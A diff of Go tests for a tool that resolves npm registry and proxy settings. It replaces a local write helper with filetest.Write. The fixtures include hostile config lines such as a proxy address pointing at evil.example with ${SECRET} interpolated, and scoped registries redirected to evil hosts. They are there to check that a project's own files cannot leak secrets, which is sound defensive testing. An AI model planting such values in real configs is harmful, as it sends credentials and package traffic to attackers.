@@ -7,6 +7,8 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"github.com/docent-mcp/docent/internal/filetest"
 )
 
 // Files of a project are under the control of its author.
@@ -37,7 +39,7 @@ func TestVariablesInTheAddressesOfAProject(t *testing.T) {
 				if file == ".yarnrc.yml" {
 					files = map[string]string{"package.json": "{}", "yarn.lock": "__metadata:\n  version: 8\n", file: "npmRegistryServer: '" + test.registry + "'"}
 				}
-				write(t, w.project, files)
+				filetest.Write(t, w.project, files)
 				r, err := w.read(t, true).RegistryFor("coins")
 				switch {
 				case err != nil:
@@ -49,7 +51,7 @@ func TestVariablesInTheAddressesOfAProject(t *testing.T) {
 				}
 				if file == ".npmrc" && strings.HasPrefix(test.registry, "https://evil") {
 					// The user's own file is not restricted.
-					write(t, w.home, map[string]string{".npmrc": "registry=" + test.registry})
+					filetest.Write(t, w.home, map[string]string{".npmrc": "registry=" + test.registry})
 					if r, err := w.read(t, false).RegistryFor("coins"); err != nil || r == nil {
 						t.Errorf("of the user it is %v, %v", r, err)
 					}
@@ -59,7 +61,7 @@ func TestVariablesInTheAddressesOfAProject(t *testing.T) {
 	}
 	// A proxy is an address too; a refused one is not used.
 	w := newWorld(t, "SECRET=s3cret")
-	write(t, w.project, map[string]string{"package.json": "{}", ".npmrc": "registry=https://r.example\nproxy=http://evil.example/${SECRET}"})
+	filetest.Write(t, w.project, map[string]string{"package.json": "{}", ".npmrc": "registry=https://r.example\nproxy=http://evil.example/${SECRET}"})
 	c := w.read(t, true)
 	u := &url.URL{Scheme: "https", Host: "r.example"}
 	if net := c.NetworkFor(u, Credential{}); strings.Contains(net.key(), "s3cret") {
@@ -81,8 +83,8 @@ func TestWhichVariablesProjectsMayHave(t *testing.T) {
 	} {
 		t.Run(test.name, func(t *testing.T) {
 			w := newWorld(t, "TOKEN=s3cret", test.list)
-			write(t, w.home, map[string]string{".npmrc": test.user})
-			write(t, w.project, map[string]string{"package.json": "{}", ".npmrc": "registry=https://r.example\n" + test.proj})
+			filetest.Write(t, w.home, map[string]string{".npmrc": test.user})
+			filetest.Write(t, w.project, map[string]string{"package.json": "{}", ".npmrc": "registry=https://r.example\n" + test.proj})
 			cred := sentTo(t, w.read(t, true), "coins", "")
 			if cred.Authorization != test.sent {
 				t.Errorf("sent %q", cred.Authorization)
@@ -96,8 +98,8 @@ func TestWhichVariablesProjectsMayHave(t *testing.T) {
 
 func TestAProjectChoosesNoFilesOfTheUsers(t *testing.T) {
 	w := newWorld(t)
-	write(t, w.home, map[string]string{".npmrc": "registry=https://r.example"})
-	write(t, w.project, map[string]string{
+	filetest.Write(t, w.home, map[string]string{".npmrc": "registry=https://r.example"})
+	filetest.Write(t, w.project, map[string]string{
 		"package.json": "{}", "theirs": "@till:registry=https://evil.example", "etc/npmrc": "@till:registry=https://evil.example",
 		".npmrc": "userconfig=theirs\nglobalconfig=theirs\nprefix=.",
 	})
@@ -110,11 +112,11 @@ func TestAProjectChoosesNoFilesOfTheUsers(t *testing.T) {
 func TestWhichFilesNpmReads(t *testing.T) {
 	w := newWorld(t)
 	prefix := t.TempDir()
-	write(t, prefix, map[string]string{"etc/npmrc": "@global:registry=https://global.example"})
-	write(t, w.home, map[string]string{
+	filetest.Write(t, prefix, map[string]string{"etc/npmrc": "@global:registry=https://global.example"})
+	filetest.Write(t, w.home, map[string]string{
 		".npmrc": "@home:registry=https://home.example", "other": "@other:registry=https://other.example\nprefix=" + prefix,
 	})
-	write(t, w.project, map[string]string{
+	filetest.Write(t, w.project, map[string]string{
 		"package.json": `{"workspaces":["packages/*"]}`, ".npmrc": "@root:registry=https://root.example",
 		"packages/app/package.json": `{"name":"app"}`, "packages/app/.npmrc": "@app:registry=https://app.example",
 		"packages/app/src/x.ts": "",
@@ -128,7 +130,7 @@ func TestWhichFilesNpmReads(t *testing.T) {
 	} {
 		root := filepath.Join(w.project, "..", "..", "..")
 		if tool != "" {
-			write(t, root, map[string]string{tool: map[bool]string{true: "{}", false: "lockfileVersion: '9.0'\n"}[strings.HasSuffix(tool, "json")]})
+			filetest.Write(t, root, map[string]string{tool: map[bool]string{true: "{}", false: "lockfileVersion: '9.0'\n"}[strings.HasSuffix(tool, "json")]})
 		}
 		if got := strings.Join(w.read(t, true).Scopes(), " "); got != want {
 			t.Errorf("with %q there are %s, not %s", tool, got, want)
@@ -137,7 +139,7 @@ func TestWhichFilesNpmReads(t *testing.T) {
 	}
 	// If the project is the home directory, its .npmrc is the user's.
 	w.project, w.env = w.home, w.env[:1]
-	write(t, w.home, map[string]string{"package.json": "{}"})
+	filetest.Write(t, w.home, map[string]string{"package.json": "{}"})
 	if r, err := w.read(t, true).RegistryFor("@home/x"); err != nil || r.project {
 		t.Errorf("comes from %+v, %v", r, err)
 	}
@@ -161,7 +163,7 @@ func TestProxiesInTheirOrder(t *testing.T) {
 	} {
 		t.Run(test.name, func(t *testing.T) {
 			w := newWorld(t, test.env...)
-			write(t, w.home, map[string]string{".npmrc": test.npmrc})
+			filetest.Write(t, w.home, map[string]string{".npmrc": test.npmrc})
 			u, err := url.Parse(test.url)
 			if err != nil {
 				t.Fatal(err)
